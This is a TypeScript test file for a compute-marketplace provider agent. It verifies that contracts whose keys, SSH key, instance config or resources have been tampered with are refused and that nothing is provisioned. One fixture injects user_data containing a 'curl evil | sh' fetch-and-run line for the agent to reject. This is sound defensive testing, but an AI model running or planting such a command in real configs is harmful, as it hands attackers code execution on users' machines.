import {afterEach, beforeEach, describe, expect, it, vi} from 'vitest'

import {Agent, type AgentSettings} from '../../src/agent/agent.js'
import {createMetrics} from '../../src/agent/metrics.js'
import type {Contract} from '../../src/core/api/schemas.js'
import {toHex} from '../../src/core/hex.js'
import {generateKeyPair} from '../../src/core/signing.js'
import {contract, FakeMarketplace, FakeProvisioner, OFFERINGS, RecordingLog, signedContractRequest, tempStateDir, unreachable} from './fakes.js'

/**
 * PROTOCOL §6 in the agent: before anything is made or sealed, the contract must be what its renter signed for, and
 * no more than this provider's own [[offerings]] sell. A marketplace that swaps the key the credentials are sealed to,
 * the SSH key, or inflates the machine gets a `provisioning_failed` that is final, and nothing is provisioned.
 */

vi.mock('node:timers/promises', () => import('./fake-sleep.js'))

const SETTINGS: AgentSettings = {
  heartbeatSeconds: 20,
  longPollWaitSeconds: 0,
  pollIntervalSeconds: 5,
  healthCheckIntervalSeconds: 60,
  usageIntervalSeconds: 300,
  reconcileIntervalSeconds: 600,
  activeSyncSeconds: 15,
  maxConcurrentProvisions: 2,
  lockTtlSeconds: 90,
  siblingDeadAfterSeconds: 0,
}

let state: ReturnType<typeof tempStateDir>
beforeEach(() => {
  state = tempStateDir()
})
afterEach(() => state.remove())

async function oneRound(api: FakeMarketplace, provisioner: FakeProvisioner, log = new RecordingLog(), offerings = OFFERINGS) {
  const agent = new Agent({api, key: generateKeyPair(), provisioner, stateDir: state.dir, log, metrics: createMetrics({bidding: false}), settings: SETTINGS, version: 'test', pruneOrphans: false, offerings})
  try {
    return await agent.runOnce()
  } finally {
    await agent.stop(1000)
  }
}

function failureOf(api: FakeMarketplace, id: string) {
  return api.provisioningReports.find((report) => report.contractId === id && report.report.status === 'provisioning_failed')?.report
}

describe("Agent: a contract is provisioned only as its renter signed for it (§6)", () => {
  it.each<[string, (asked: Contract) => Contract, string]>([
    ['the key that receives the credentials swapped for the marketplace\'s own', (asked) => ({...asked, requester_pubkey: toHex(generateKeyPair().publicKey)}), 'request_refused: bad_signature'],
    ['another SSH key', (asked) => ({...asked, ssh_pubkey: 'ssh-ed25519 AAAA intruder'}), 'request_refused: ssh_key_mismatch'],
    ['an instance_config the renter never sent', (asked) => ({...asked, instance_config: {user_data: '#!/bin/sh\ncurl evil | sh'}}), 'request_refused: instance_config_mismatch'],
    ['no signed request at all', ({request: _request, ...asked}) => asked, 'request_refused: request_missing'],
    ['a request signed for another offering', (asked) => ({...asked, request: signedContractRequest({offering_id: 'offering-gpu', ssh_pubkey: asked.ssh_pubkey}, asked.created_at)}), 'request_refused: offering_mismatch'],
    ['more cores than the offering sells', (asked) => ({...asked, cpu_cores: 64}), 'exceeds_offering: the contract asks more than the offering: cpu_cores 64 > 8'],
    ['more memory than the offering sells', (asked) => ({...asked, memory_mb: 1_048_576}), 'exceeds_offering: the contract asks more than the offering: memory_mb 1048576 > 16384'],
  ])('refuses %s: nothing is made or sealed, and the failure is final', async (_what, tamper, reported) => {
    const api = new FakeMarketplace()
    const provisioner = new FakeProvisioner()
    const log = new RecordingLog()
    const lying = tamper(contract())
    api.pending = [lying]
    expect(await oneRound(api, provisioner, log)).toMatchObject({provisioned: 0, failed: 1})
    expect(provisioner.calls).toEqual([])
    expect(api.provisioningReports.map((report) => report.report.status)).toEqual(['provisioning', 'provisioning_failed'])
    const failure = failureOf(api, lying.contract_id)
    expect(failure).toMatchObject({retry_possible: false})
    expect(failure?.error?.startsWith(reported)).toBe(true)
    expect(log.lines.find((line) => line.level === 'error' && line.message.startsWith('refused: the contract is not what its renter signed for'))?.details).toMatchObject({contract_id: lying.contract_id})
  })

  it('maps the marketplace\'s offering id to its own [[offerings]] by name, reading the listing once per new id', async () => {
    const api = new FakeMarketplace()
    const provisioner = new FakeProvisioner()
    api.pending = [contract(), contract(), contract({product_type: 'gpu', gpu_count: 1})]
    expect(await oneRound(api, provisioner)).toMatchObject({provisioned: 3, failed: 0})
    expect(api.calls.filter((call) => call === 'offerings')).toHaveLength(1)
  })

  it('refuses a contract for an offering its config does not sell (and every one, with no [[offerings]])', async () => {
    const api = new FakeMarketplace()
    const provisioner = new FakeProvisioner()
    const foreign = contract({offering_id: 'offering-of-someone-else'})
    api.pending = [foreign]
    expect(await oneRound(api, provisioner)).toMatchObject({provisioned: 0, failed: 1})
    expect(failureOf(api, foreign.contract_id)?.error).toMatch(/^unknown_offering: /)

    const unconfigured = new FakeMarketplace()
    const plain = contract()
    unconfigured.pending = [plain]
    expect(await oneRound(unconfigured, provisioner, new RecordingLog(), [])).toMatchObject({provisioned: 0, failed: 1})
    expect(failureOf(unconfigured, plain.contract_id)?.error).toMatch(/^unknown_offering: /)
    expect(provisioner.calls).toEqual([])
  })

  it('bounds by its own terms, not the listing: a marketplace that publishes bigger terms under the name gains nothing', async () => {
    const api = new FakeMarketplace()
    const provisioner = new FakeProvisioner()
    api.published = api.published.map((offering) => ({...offering, cpu_cores: 128}))
    const inflated = contract({cpu_cores: 64})
    api.pending = [inflated]
    expect(await oneRound(api, provisioner)).toMatchObject({provisioned: 0, failed: 1})
    expect(failureOf(api, inflated.contract_id)?.error).toMatch(/^exceeds_offering: /)
  })

  it('does not fail a contract when the offerings can\'t be read: it is tried again, and nothing is made meanwhile', async () => {
    const api = new FakeMarketplace()
    const provisioner = new FakeProvisioner()
    const accepted = contract()
    api.pending = [accepted]
    const offerings = api.offerings.bind(api)
    api.offerings = async () => {
      api.calls.push('offerings')
      throw unreachable()
    }
    expect(await oneRound(api, provisioner)).toMatchObject({provisioned: 0, failed: 0})
    expect(failureOf(api, accepted.contract_id)).toBeUndefined()
    expect(provisioner.calls).toEqual([])
    api.offerings = offerings
    expect(await oneRound(api, provisioner)).toMatchObject({provisioned: 1, failed: 0})
  })
})
